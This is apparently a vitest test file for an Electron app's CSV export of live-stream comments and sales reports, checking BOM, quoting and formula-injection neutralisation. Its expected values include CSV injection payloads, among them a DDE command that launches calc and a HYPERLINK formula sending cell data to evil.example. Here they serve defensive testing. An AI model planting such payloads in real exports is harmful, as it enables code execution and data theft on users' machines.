import { afterAll, describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../../electron/core/report/formats/cells.js';
import { csvField } from '../../../electron/core/report/formats/csv.js';
import { fixturePeriodReport, PERIOD_SHOWS } from '../../fixtures/report/period-report.js';
import { fixtureComment, fixtureRows, TRICKY_TEXTS } from '../../fixtures/report/rows.js';
import { cleanupExports, exportFixture } from './export-fixture.js';
import { parseCsv } from './read-back.js';

afterAll(cleanupExports);

const pad = (n: number) => String(n).padStart(2, '0');
const localSeconds = (ms: number) => {
  const d = new Date(ms);
  return `${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())} ${pad(d.getHours())}:${pad(d.getMinutes())}:${pad(d.getSeconds())}`;
};

describe('CSV of raw comments', () => {
  it('is UTF-8 with a BOM, RFC 4180, and every comment round-trips (only the apostrophe added)', async () => {
    const total = 12_345; // more than two batches
    const { data, result } = await exportFixture('csv', { rows: fixtureRows({ comments: total }) });
    expect(result.rows).toEqual({ comments: total });
    expect([...data.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(data.toString('utf8').slice(1));
    expect(records[0]).toEqual(['时间', '评论ID', '用户ID', '昵称', '内容', '粉丝团', '截断']);
    expect(records).toHaveLength(total + 1);
    for (let i = 0; i < total; i++) {
      const c = fixtureComment(i, total);
      expect(records[i + 1]).toEqual([
        localSeconds(c.ts),
        c.id,
        c.userId,
        neutraliseCell(c.nickname),
        neutraliseCell(c.text),
        c.fanClub ? '是' : '否',
        c.truncated ? '是' : '否',
      ]);
    }
    // The hard cases, spelled out.
    const texts = records.slice(1, TRICKY_TEXTS.length + 1).map((r) => r[4]);
    expect(texts).toEqual([
      '有红色吗，还有货吗？',
      '价格是"99"还是"129"?',
      '第一行\n第二行\r\n第三行',
      '太好看了😍🔥👍',
      "'=cmd|' /C calc'!A0",
      '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      "'-1+1",
      "'+86 138 0000 0000",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      "'＝1+1",
      'a,b,"c"\nd',
      '   前后有空格   ',
      '',
    ]);
    expect(records[3 + 1]![3]).toBe('小仙女, "甜甜"');
  });

  it('a show with no comments is the header alone', async () => {
    const { data, result } = await exportFixture('csv', { rows: fixtureRows({ comments: 0 }) });
    expect(result.rows).toEqual({ comments: 0 });
    expect(parseCsv(data.toString('utf8').slice(1))).toEqual([
      ['时间', '评论ID', '用户ID', '昵称', '内容', '粉丝团', '截断'],
    ]);
  });

  it('a period: the shows table, numbers Excel reads as numbers', async () => {
    const { data, result } = await exportFixture('csv', { report: fixturePeriodReport() });
    expect(result.rows).toEqual({ shows: 4 });
    const records = parseCsv(data.toString('utf8').slice(1));
    expect(records[0]!.slice(0, 6)).toEqual(['开播时间', '场次', '直播间', '时长', '成交金额', '订单']);
    expect(records.slice(1).map((r) => r[1])).toEqual([
      '周二护肤专场',
      '双11美妆狂欢专场',
      '彩妆新品首发, "限定"礼盒',
      "'=周末福利场",
    ]);
    const s = PERIOD_SHOWS[1]!;
    expect(records[2]).toEqual([
      '2026-11-11 20:00',
      '双11美妆狂欢专场',
      '小美的美妆直播间',
      '3:00:00',
      '1863420.50',
      String(s.orders),
      String(s.buyers),
      String(s.uv),
      String(s.peakOnline),
      `${(s.conversion! * 100).toFixed(2)}%`,
      String(s.comments),
      String(s.questions),
      String(s.answered),
      String(s.faqUses),
      String(s.alerts),
      String(s.incidents),
    ]);
    expect(records[4]![9]).toBe('—');
  });

  it('quotes only what needs quoting', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
  });
});
